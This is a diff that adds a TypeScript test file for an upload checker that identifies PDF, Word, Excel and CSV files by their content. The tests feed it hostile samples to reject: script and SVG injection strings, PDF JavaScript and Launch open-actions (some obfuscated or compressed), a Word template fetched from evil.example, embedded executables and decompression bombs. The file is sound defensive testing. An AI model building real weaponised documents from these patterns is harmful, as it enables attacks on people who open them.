@@ -1,0 +1,178 @@
+/** What of a file decides whether it is taken: what is in it, and never what it is called. */
+import { createHash } from 'node:crypto';
+import { deflateSync } from 'node:zlib';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import type { Format } from '#domain/documents/words.ts';
+import { examine } from '#lambdas/files/checks/examine.ts';
+import type { Source } from '#lambdas/files/checks/source.ts';
+import { docxOf, pdfOf, xlsxOf, zipOf } from '#local/demo/small-files.ts';
+
+const sourceOf = (content: Buffer, piece = 64 * 1024): Source => ({
+  size: content.length,
+  chunks: async function* () {
+    for (let at = 0; at < content.length; at += piece) yield content.subarray(at, at + piece);
+  },
+  part: async (start, end) => content.subarray(start, end),
+});
+
+const found = (content: Buffer | string, named: Format, piece?: number) =>
+  examine(sourceOf(Buffer.from(content), piece), named);
+const errorOf = async (content: Buffer | string, named: Format, piece?: number) =>
+  (await found(content, named, piece)).error;
+
+const pdf = pdfOf(['A model card', 'Nothing (else)']);
+const docx = docxOf('Policy', ['Who decides?']);
+const xlsx = xlsxOf('Rates', [
+  ['group', 'rate'],
+  ['a', 0.8],
+]);
+const TYPES = '[Content_Types].xml';
+const typesWith = (type: string) => `<Types><Override PartName="/x" ContentType="application/vnd.${type}"/></Types>`;
+const WORD = 'openxmlformats-officedocument.wordprocessingml.document.main+xml';
+
+test('what is what its name says is taken, by whatever pieces it comes, and known by its hash', async () => {
+  for (const [content, named, type] of [
+    [pdf, 'pdf', 'application/pdf'],
+    [docx, 'docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+    [xlsx, 'xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
+    [Buffer.from('a;b\n1;2\n'), 'csv', 'text/csv; charset=utf-8'],
+  ] as const) {
+    const sha256 = createHash('sha256').update(content).digest('hex');
+    for (const piece of [1, 7, 1000, 100_000])
+      expect(await found(content, named, piece)).toEqual({ sha256, content_type: type, error: null });
+  }
+});
+
+test('a table may be written in the signs of its time', async () => {
+  const typeOf = async (content: Buffer) => {
+    const { error, content_type } = await found(content, 'csv');
+    return error ?? content_type.replace('text/csv; charset=', '');
+  };
+  expect(await typeOf(Buffer.from('\ufeffaño,ñ\n'))).toBe('utf-8');
+  expect(await typeOf(Buffer.from('a\u00f1o,\u00fc\n', 'latin1'))).toBe('windows-1252');
+  expect(await typeOf(Buffer.from('\ufeffaño\t1\n', 'utf16le'))).toBe('utf-16le');
+  expect(await typeOf(Buffer.from('\ufeffaño\t1\n', 'utf16le').swap16())).toBe('utf-16be');
+  expect(await typeOf(Buffer.from('a,b\u0000\n'))).toBe('not_text');
+  expect(await typeOf(Buffer.from(`${'a,b\n'.repeat(5000)}\u0000`))).toBe('not_text');
+  expect(await typeOf(Buffer.from('año'.repeat(9), 'utf16le'))).toBe('not_text');
+  expect(await typeOf(Buffer.from([0x61, 0x2c, 0x81, 0x0a]))).toBe('not_text');
+});
+
+test('what lies about its type is not taken', async () => {
+  const wrong: [Buffer | string, Format][] = [
+    ...[pdf, docx, xlsx].map((content): [Buffer, Format] => [content, 'csv']),
+    [docx, 'xlsx'],
+    [xlsx, 'docx'],
+    ['a,b\n', 'pdf'],
+    ['a,b\n', 'docx'],
+    [zipOf({ 'a.txt': 'x' }), 'docx'],
+    [zipOf({ [TYPES]: typesWith('openxmlformats-officedocument.presentationml.presentation.main+xml') }), 'docx'],
+  ];
+  for (const [content, named] of wrong) expect(await errorOf(content, named)).toBe('type_mismatch');
+  const pages = ['<!DOCTYPE html><p>', ' \n<script>alert(1)</script>', '<svg onload=x>', '<?php ?>', '#!/bin/sh\n'];
+  for (const page of pages)
+    for (const named of ['csv', 'pdf'] as const) expect(await errorOf(page, named)).toBe('type_mismatch');
+  expect(await errorOf(Buffer.from('\ufeff<html>', 'utf16le'), 'csv')).toBe('type_mismatch');
+  expect(await errorOf(Buffer.from([0x4d, 0x5a, 0x90, 0, 3]), 'csv')).toBe('not_text');
+  expect(await errorOf('', 'pdf')).toBe('empty');
+});
+
+const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
+
+test('what Office wrote before 2007 is not taken, nor what is encrypted', async () => {
+  expect(await errorOf(Buffer.concat([OLE, Buffer.alloc(900)]), 'docx')).toBe('not_allowed_type');
+  const encrypted = Buffer.concat([OLE, Buffer.alloc(900), Buffer.from('EncryptedPackage', 'utf16le')]);
+  for (const piece of [5, 64]) expect(await errorOf(encrypted, 'docx', piece)).toBe('encrypted');
+  const flagged = Buffer.from(docx);
+  flagged.writeUInt16LE(1, flagged.indexOf('PK\u0001\u0002') + 8);
+  expect(await errorOf(flagged, 'docx')).toBe('encrypted');
+  const locked = Buffer.from(pdf.toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R'), 'latin1');
+  for (const piece of [3, 999]) expect(await errorOf(locked, 'pdf', piece)).toBe('encrypted');
+});
+
+test('macros are found by what the parts are, whatever they are called', async () => {
+  const withMacros = [
+    docxOf('x', [], { 'word/vbaProject.bin': 'x' }),
+    docxOf('x', [], { [TYPES]: typesWith(`${WORD}"/><Override ContentType="application/vnd.ms-office.vbaProject`) }),
+    docxOf('x', [], { [TYPES]: typesWith('ms-word.document.macroEnabled.main+xml') }),
+  ];
+  for (const content of withMacros) expect(await errorOf(content, 'docx')).toBe('macros');
+  expect(await errorOf(xlsxOf('x', [], { 'xl/macrosheets/sheet1.xml': '<x/>' }), 'xlsx')).toBe('macros');
+});
+
+describe('what does something when it is opened', () => {
+  const action = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+
+  test('is not taken in a PDF, however it is written', async () => {
+    const packed = (text: string) => deflateSync(Buffer.from(text)).toString('latin1');
+    const stream = (dictionary: string, content: string) =>
+      `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;
+    for (const objects of [
+      [action],
+      [action.replace('JavaScript', 'Java#53cript')],
+      ['<< /S /Launch /F (calc.exe) >>'],
+      [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`6 0 ${action}`))],
+      [stream('/Type /Obj#53tm /N 1 /First 4 /Filter [/FlateDecode]', packed(`6 0 ${action}`))],
+    ]) {
+      const content = pdfOf(['x'], { objects, catalog: '/OpenAction 6 0 R' });
+      for (const piece of [11, 4096, 100_000])
+        expect([objects, await errorOf(content, 'pdf', piece)]).toEqual([objects, 'active_content']);
+    }
+    const harmless = pdfOf(['x'], {
+      objects: [stream('/Type /ObjStm /Filter /FlateDecode', packed('6 0 << /A 1 >>'))],
+    });
+    for (const piece of [11, 100_000]) expect(await errorOf(harmless, 'pdf', piece)).toBeNull();
+    const odd = pdfOf(['x'], { objects: [stream('/Type /ObjStm /Filter /LZWDecode', 'xx')] });
+    expect(await errorOf(odd, 'pdf')).toBe('too_complex');
+    const bomb = stream(
+      '/Type /ObjStm /Filter /FlateDecode',
+      deflateSync(Buffer.alloc(101 * 1024 * 1024)).toString('latin1'),
+    );
+    expect(await errorOf(pdfOf(['x'], { objects: [bomb] }), 'pdf')).toBe('too_complex');
+  });
+
+  test('is not taken in a document either', async () => {
+    const fetched =
+      '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>';
+    for (const more of [
+      ['word/activeX/activeX1.bin', 'x'],
+      ['word/embeddings/run.exe', 'MZ'],
+      ['word/_rels/settings.xml.rels', fetched],
+    ] as const)
+      expect(await errorOf(docxOf('x', [], { [more[0]]: more[1] }), 'docx')).toBe('active_content');
+  });
+});
+
+test('what would unpack to far more than it is, or hides another archive, is not unpacked to find out', async () => {
+  const bomb = docxOf('x', [], { 'word/media/a.xml': new Uint8Array(30 * 1024 * 1024) });
+  expect(bomb.length).toBeLessThan(100_000);
+  expect(await errorOf(bomb, 'docx')).toBe('too_complex');
+  const many = Object.fromEntries(Array.from({ length: 10_001 }, (_, n) => [`word/${n}`, '']));
+  expect(await errorOf(docxOf('x', [], many), 'docx')).toBe('too_complex');
+  expect(await errorOf(docxOf('x', [], { 'word/embeddings/more.zip': zipOf({ a: 'b' }) }), 'docx')).toBe('too_complex');
+  const types = docxOf('x', [], { [TYPES]: `${typesWith(WORD)}${' '.repeat(2 * 1024 * 1024)}` });
+  expect(await errorOf(types, 'docx')).toBe('too_complex');
+});
+
+test('what was cut off anywhere is damaged, and whatever is changed in it never ends in a fault', async () => {
+  for (const [content, named] of [
+    [docx, 'docx'],
+    [pdf, 'pdf'],
+  ] as const)
+    for (const share of [0.3, 0.6, 0.95])
+      expect(await errorOf(content.subarray(0, Math.floor(content.length * share)), named)).toBe('damaged');
+  await fc.assert(
+    fc.asyncProperty(
+      fc.constantFrom([docx, 'docx'] as const, [xlsx, 'xlsx'] as const, [pdf, 'pdf'] as const),
+      fc.array(fc.tuple(fc.nat(), fc.nat(255)), { minLength: 1, maxLength: 20 }),
+      fc.nat(200),
+      async ([whole, named], changes, cut) => {
+        const content = Buffer.from(whole.subarray(0, whole.length - (cut > 150 ? cut : 0)));
+        for (const [at, byte] of changes) content[at % content.length] = byte;
+        expect(await found(content, named, 1 + (cut % 97))).toHaveProperty('error');
+      },
+    ),
+    { numRuns: 200 },
+  );
+});
